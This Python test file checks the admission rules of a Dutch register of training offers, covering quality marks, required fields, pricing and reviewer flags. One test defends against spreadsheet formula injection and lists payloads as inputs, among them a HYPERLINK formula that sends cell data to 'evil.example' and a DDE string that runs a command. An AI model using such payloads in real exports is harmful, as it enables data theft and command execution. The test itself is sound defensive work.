# SPDX-License-Identifier: EUPL-1.2
"""Admission checks: rules with reasons (pure)."""

from __future__ import annotations

import dataclasses
import datetime as dt
from decimal import Decimal

from llo.register import checks as c

ON = dt.date(2026, 6, 1)
PROVIDER = c.ProviderFacts(
    kind="private", status="admitted", marks=(c.Mark("nrto", dt.date(2020, 1, 1)),)
)
OFFER = c.OfferFacts(
    offer_type="course",
    title="Heftruck rijden",
    description="Je leert veilig werken met een heftruck in het magazijn, met examen.",
    formal=False,
    level="eqf_2",
    level_basis="indicative",
    study_load_value=Decimal(16),
    study_load_unit="hour",
    leads_to="none",
    legal_status="cursist",
    modes=("presential",),
    online=False,
    gemeente_count=1,
    fee_cents=45_000,
    exam_cents=0,
    materials_cents=0,
    vat_exempt=False,
)


def codes(
    offer: c.OfferFacts = OFFER,
    provider: c.ProviderFacts = PROVIDER,
    band: c.PriceBand | None = None,
) -> list[str]:
    return [r.code for r in c.run(offer, provider, ON, band)]


def test_a_good_offer_passes() -> None:
    assert codes() == []


def test_a_quality_mark_must_be_valid_on_the_day() -> None:
    expired = dataclasses.replace(
        PROVIDER, marks=(c.Mark("nrto", dt.date(2018, 1, 1), dt.date(2026, 5, 31)),)
    )
    assert codes(provider=expired) == ["no-valid-quality-mark"]
    future = dataclasses.replace(PROVIDER, marks=(c.Mark("nrto", dt.date(2026, 6, 2)),))
    assert codes(provider=future) == ["no-valid-quality-mark"]


def test_required_fields_block_with_their_field() -> None:
    bare = dataclasses.replace(
        OFFER, title="Kort", description="", study_load_value=None, modes=(), gemeente_count=0
    )
    results = c.run(bare, PROVIDER, ON, None)
    assert {(r.code, r.field) for r in results} == {
        ("title-too-short", "title"),
        ("description-too-short", "description"),
        ("study-load-missing", "studyLoad"),
        ("mode-missing", "modesOfDelivery"),
        ("place-missing", "gemeenten"),
    }
    assert all(r.severity == c.BLOCK for r in results)
    assert dataclasses.replace(OFFER, online=True, gemeente_count=0)
    assert codes(dataclasses.replace(OFFER, online=True, gemeente_count=0)) == []


def test_formal_offers_need_recognition_and_students() -> None:
    formal = dataclasses.replace(
        OFFER, formal=True, leads_to="mbo_certificate", legal_status="cursist", offer_type="module"
    )
    assert codes(formal) == [
        "formal-needs-recognition",
        "module-needs-programme",
        "legal-status-mismatch",
    ]
    roc = dataclasses.replace(PROVIDER, marks=(c.Mark("ocw", dt.date(2000, 1, 1)),))
    fixed = dataclasses.replace(formal, legal_status="student", has_programme=True)
    assert codes(fixed, roc) == []


def test_level_basis_and_leads_to() -> None:
    assert codes(dataclasses.replace(OFFER, level_basis="levelled")) == ["levelled-needs-nlqf"]
    assert codes(dataclasses.replace(OFFER, level_basis="generic")) == ["generic-level-is-formal"]
    assert codes(dataclasses.replace(OFFER, offer_type="evc")) == ["evc-leads-to-certificate"]
    assert codes(dataclasses.replace(OFFER, offer_type="microcredential")) == [
        "microcredential-leads-to"
    ]
    assert codes(dataclasses.replace(OFFER, leads_to="diploma")) == [
        "formal-needs-recognition",
        "diploma-needs-programme",
    ]


def test_vat_exemption_needs_crkbo_or_recognition() -> None:
    assert codes(dataclasses.replace(OFFER, vat_exempt=True)) == [
        "vat-exemption-needs-registration"
    ]
    crkbo = dataclasses.replace(
        PROVIDER, marks=(*PROVIDER.marks, c.Mark("crkbo", dt.date(2020, 1, 1)))
    )
    assert codes(dataclasses.replace(OFFER, vat_exempt=True), crkbo) == []
    assert codes(dataclasses.replace(OFFER, vat_exempt=True, fee_cents=0)) == []


def test_price_band_is_robust() -> None:
    assert c.price_band([100, 200, 300, 400]) is None  # too few similar offers
    band = c.price_band([40_000, 42_000, 45_000, 47_000, 50_000, 9_999_900])
    assert band is not None
    assert band.median_cents == 46_000
    # One absurd price does not widen the band.
    assert band.high_cents < 150_000
    # 48 hours, so € 3.000 is € 62,50 an hour: only the band flags it.
    dear = dataclasses.replace(OFFER, fee_cents=300_000, study_load_value=Decimal(48))
    assert codes(dear, band=band) == ["price-much-higher"]
    assert codes(dataclasses.replace(OFFER, fee_cents=1_000), band=band) == ["price-much-lower"]
    assert codes(band=band) == []
    flag = c.run(dear, PROVIDER, ON, band)[0]
    assert flag.severity == c.FLAG
    assert "€" in flag.message


def test_price_band_of_equal_prices_is_not_zero_wide() -> None:
    band = c.price_band([50_000] * 10)
    assert band is not None
    assert band.low_cents < 50_000 < band.high_cents


def test_leisure_words_flag_for_a_reviewer() -> None:
    yoga = dataclasses.replace(OFFER, title="Yoga en meditatie voor beginners")
    (result,) = c.run(yoga, PROVIDER, ON, None)
    assert result.code == "maybe-leisure"
    assert result.severity == c.FLAG
    assert result.params == {"words": "meditatie, yoga"}


def test_a_suspended_provider_is_blocked() -> None:
    suspended = dataclasses.replace(PROVIDER, status="suspended")
    assert codes(provider=suspended) == ["provider-not-admitted"]


def test_every_result_has_a_message() -> None:
    for code in [
        "provider-not-admitted", "no-valid-quality-mark", "formal-needs-recognition",
        "certificate-is-formal", "diploma-needs-programme", "levelled-needs-nlqf",
        "generic-level-is-formal", "title-too-short", "description-too-short",
        "study-load-missing", "mode-missing", "place-missing", "module-needs-programme",
        "legal-status-mismatch", "evc-leads-to-certificate", "microcredential-leads-to",
        "vat-exemption-needs-registration", "price-much-higher", "price-much-lower",
        "maybe-leisure",
    ]:  # fmt: skip
        assert c.message({"code": code}) != code


def test_a_title_that_starts_like_a_spreadsheet_formula_is_refused() -> None:
    """Issue 14, finding 4: such a title was admitted and reached the open spending CSV."""
    for title in (
        '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+31 cursus",
        "-2+3 rekenen",
        " =1+1+1",
        "\tLassen",
    ):
        results = c.run(dataclasses.replace(OFFER, title=title), PROVIDER, ON)
        assert [(r.code, r.severity, r.field) for r in results] == [
            ("title-formula", c.BLOCK, "title")
        ], title
        assert "spreadsheet" in results[0].message
    for title in ("Excel: =SOM en meer", "'s-Hertogenbosch: Nederlands", "2026: lassen"):
        assert codes(dataclasses.replace(OFFER, title=title)) == []


def test_the_first_offers_of_a_new_provider_go_to_a_person() -> None:
    new = dataclasses.replace(PROVIDER, published_offers=0)
    (result,) = c.run(OFFER, new, ON, None)
    assert (result.code, result.severity) == ("new-provider", c.FLAG)
    assert "eerste" in result.message or "first" in result.message
    assert codes(provider=dataclasses.replace(PROVIDER, published_offers=1)) == []


def test_a_price_jump_over_the_lowest_price_of_the_year_goes_to_a_person() -> None:
    assert codes(dataclasses.replace(OFFER, reference_price_cents=40_000)) == []  # +12 %
    jumped = dataclasses.replace(OFFER, fee_cents=60_000, reference_price_cents=45_000)
    (result,) = c.run(jumped, PROVIDER, ON, None)
    assert result.code == "price-jump"
    assert (result.params["old"], result.params["new"], result.params["pct"]) == (
        45_000,
        60_000,
        33,
    )
    # A rise of a few euros on a cheap course is not worth a person's time.
    cheap = dataclasses.replace(OFFER, fee_cents=5_000, reference_price_cents=2_000)
    assert codes(cheap) == []


def test_an_implausible_price_per_hour_goes_to_a_person() -> None:
    """Issue 15 item 7: 'Gegarandeerd rijk worden met lassen', 8 hours for € 14.999."""
    rich = dataclasses.replace(
        OFFER,
        title="Gegarandeerd rijk worden met lassen",
        description="Na deze cursus van één dag verdien je gegarandeerd een vermogen als lasser.",
        fee_cents=1_499_900,
        study_load_value=Decimal(8),
    )
    found = {r.code: r for r in c.run(rich, PROVIDER, ON, None)}
    assert set(found) == {"price-per-hour", "promise"}
    assert all(r.severity == c.FLAG for r in found.values())
    assert found["price-per-hour"].params["perHour"] == 187_487
    assert "rijk" in found["promise"].params["words"]
    # 2 EC is 56 hours of study (WHW art. 7.4): € 1.500 is € 26,78 an hour.
    ects = dataclasses.replace(OFFER, fee_cents=150_000, study_load_value=Decimal(2))
    assert codes(dataclasses.replace(ects, study_load_unit="ects")) == []
    assert codes(dataclasses.replace(OFFER, fee_cents=240_000)) == []  # € 150 an hour
    assert codes(dataclasses.replace(OFFER, fee_cents=240_100)) == ["price-per-hour"]
